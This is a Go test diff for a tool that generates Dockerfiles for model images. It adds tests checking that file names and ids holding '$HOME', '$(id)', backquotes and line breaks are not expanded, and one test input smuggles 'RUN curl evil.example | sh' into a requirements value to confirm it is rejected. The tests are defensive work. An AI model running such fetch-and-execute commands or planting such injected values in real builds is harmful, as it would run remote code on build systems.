@@ -5,12 +5,14 @@ import (
 	"context"
 	"crypto/rand"
 	"crypto/x509"
+	"encoding/json"
 	"fmt"
 	"io"
 	"log"
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -154,7 +156,7 @@ func TestDockerfile(t *testing.T) {
 	got := in.Dockerfile()
 	for _, want := range []string{
 		"FROM python:3.12\nWORKDIR /app\n",
-		"COPY \"requirements.in\" \"requirements.in\"\nRUN pip install --no-cache-dir -r \"requirements.in\"\nCOPY . .\n",
+		"COPY [\"requirements.in\", \"requirements.in\"]\nRUN pip install --no-cache-dir -r \"requirements.in\"\nCOPY . .\n",
 		"LABEL dev.kaptain.checksum=\"" + in.Checksum() + "\"\n",
 		"ENTRYPOINT [\"python\", \"trainer.py\"]\n",
 	} {
@@ -172,6 +174,130 @@ func TestDockerfile(t *testing.T) {
 	if !bytes.Equal(a.Bytes(), b.Bytes()) {
 		t.Fatal("the build context is not reproducible")
 	}
+}
+
+// TestDockerfileTakesValuesAsWritten: the builder reads back every value of the generated
+// Dockerfile as it was, without expanding variables ($HOME in a model id or a file name), and
+// the exec form is valid JSON for any file name (the audit's L11).
+func TestDockerfileTakesValuesAsWritten(t *testing.T) {
+	for name, in := range map[string]Inputs{
+		"plain":                  {ModelID: "dev/mnist", MainFile: "trainer.py", Requirements: "requirements.txt"},
+		"a variable in the id":   {ModelID: "dev/$HOME", MainFile: "trainer.py"},
+		"braces and quotes":      {ModelID: `dev/${HOME}"'`, MainFile: `a"b\c$d<e>&.py`, Requirements: `r\"q'$(id).txt`},
+		"control characters":     {ModelID: "dev/mnist", MainFile: "ctl\x01\x7f.py", Requirements: "tab\treq.txt"},
+		"spaces and backquotes":  {ModelID: "dev/mnist", MainFile: "my trainer.py", Requirements: "reqs $HOME `id`.txt"},
+		"unicode and separators": {ModelID: "dev/ünï", MainFile: "ünï©ødé\u2028.py", Requirements: "ré\u2029q.txt"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			df := in.Dockerfile()
+			seen := map[string]bool{}
+			for _, line := range strings.Split(strings.TrimSuffix(df, "\n"), "\n") {
+				verb, rest, _ := strings.Cut(line, " ")
+				seen[verb] = true
+				switch verb {
+				case "LABEL":
+					k, v, _ := strings.Cut(rest, "=")
+					if got, want := builderWord(t, v), in.Labels()[k]; got != want {
+						t.Errorf("%s: the builder reads %q, want %q", line, got, want)
+					}
+				case "COPY":
+					if rest == ". ." {
+						continue
+					}
+					var args []string
+					if err := json.Unmarshal([]byte(rest), &args); err != nil || len(args) != 2 {
+						t.Fatalf("%s: not a JSON array of two: %v", line, err)
+					}
+					for _, a := range args {
+						if got := builderWord(t, a); got != in.Requirements {
+							t.Errorf("%s: the builder reads %q, want %q", line, got, in.Requirements)
+						}
+					}
+				case "RUN":
+					word, ok := strings.CutPrefix(rest, "pip install --no-cache-dir -r ")
+					if got := shellDoubleQuoted(t, word); !ok || got != in.Requirements {
+						t.Errorf("%s: the shell reads %q, want %q", line, got, in.Requirements)
+					}
+				case "ENTRYPOINT":
+					var args []string
+					if err := json.Unmarshal([]byte(rest), &args); err != nil || !slices.Equal(args, in.Entrypoint()) {
+						t.Errorf("%s: exec form %q (%v), want %q", line, args, err, in.Entrypoint())
+					}
+				}
+			}
+			if !seen["ENTRYPOINT"] || seen["RUN"] != (in.Requirements != "") {
+				t.Errorf("Dockerfile:\n%s", df)
+			}
+		})
+	}
+	// A value written outside JSON cannot start an instruction of its own.
+	in := Inputs{BaseImage: "scratch", MainFile: "trainer.py", Requirements: "r.txt\nRUN curl evil.example | sh"}
+	if err := in.Context(io.Discard); err == nil || !strings.Contains(err.Error(), "line break") {
+		t.Errorf("requirements with a line break: %v", err)
+	}
+}
+
+// builderWord reads a word as the builder's lexer does for the instructions it expands
+// (moby/buildkit frontend/dockerfile/shell/lex.go: single and double quotes, backslash
+// escapes), failing the test where it would expand a variable.
+func builderWord(t *testing.T, w string) string {
+	t.Helper()
+	var out strings.Builder
+	for i := 0; i < len(w); i++ {
+		switch c := w[i]; c {
+		case '\\':
+			if i++; i < len(w) {
+				out.WriteByte(w[i])
+			}
+		case '\'':
+			j := strings.IndexByte(w[i+1:], '\'')
+			if j < 0 {
+				t.Fatalf("%q: unterminated single quote", w)
+			}
+			out.WriteString(w[i+1 : i+1+j])
+			i += j + 1
+		case '"':
+			i = doubleQuoted(t, w, i+1, `"$\`, &out)
+		case '$':
+			t.Fatalf("%q: the builder expands a variable", w)
+		default:
+			out.WriteByte(c)
+		}
+	}
+	return out.String()
+}
+
+// shellDoubleQuoted reads one double-quoted shell word, failing the test where the shell
+// would expand something.
+func shellDoubleQuoted(t *testing.T, w string) string {
+	t.Helper()
+	var out strings.Builder
+	if !strings.HasPrefix(w, `"`) || doubleQuoted(t, w, 1, "\"$`\\", &out) != len(w)-1 {
+		t.Fatalf("%q is not one double-quoted word", w)
+	}
+	return out.String()
+}
+
+// doubleQuoted reads w from i to its closing double quote, whose index it returns: a
+// backslash escapes the characters of escapable and is kept before others; '$' (and '`' for a
+// shell) fail the test.
+func doubleQuoted(t *testing.T, w string, i int, escapable string, out *strings.Builder) int {
+	t.Helper()
+	for ; i < len(w); i++ {
+		switch c := w[i]; {
+		case c == '"':
+			return i
+		case c == '$' || c == '`' && strings.Contains(escapable, "`"):
+			t.Fatalf("%q: %c is expanded", w, c)
+		case c == '\\' && i+1 < len(w) && strings.IndexByte(escapable, w[i+1]) >= 0:
+			i++
+			out.WriteByte(w[i])
+		default:
+			out.WriteByte(c)
+		}
+	}
+	t.Fatalf("%q: unterminated double quote", w)
+	return 0
 }
 
 // testRegistry starts go-containerregistry's in-process registry over TLS and returns its
@@ -327,11 +453,11 @@ func TestInsecureOnlyForTheTargetRegistry(t *testing.T) {
 	m := writeModel(t, t.TempDir(), sampleFiles)
 	// The registry's CA is not trusted: --insecure-registry for another host leaves this one
 	// verified.
-	other := &Registry{Insecure: true, InsecureHost: "registry.example.com:5000"}
+	other := &Registry{Insecure: true, TargetHost: "registry.example.com:5000"}
 	if _, err := other.Build(context.Background(), collect(t, m), host+"/kaptain/mnist:1", Options{}); Diagnose(err) != ProblemUnknownCA {
 		t.Fatalf("insecure for another host: %v, want the certificate refused", err)
 	}
-	this := &Registry{Insecure: true, InsecureHost: host}
+	this := &Registry{Insecure: true, TargetHost: host}
 	if _, err := this.Build(context.Background(), collect(t, m), host+"/kaptain/mnist:1", Options{}); err != nil {
 		t.Fatalf("insecure for this host: %v", err)
 	}
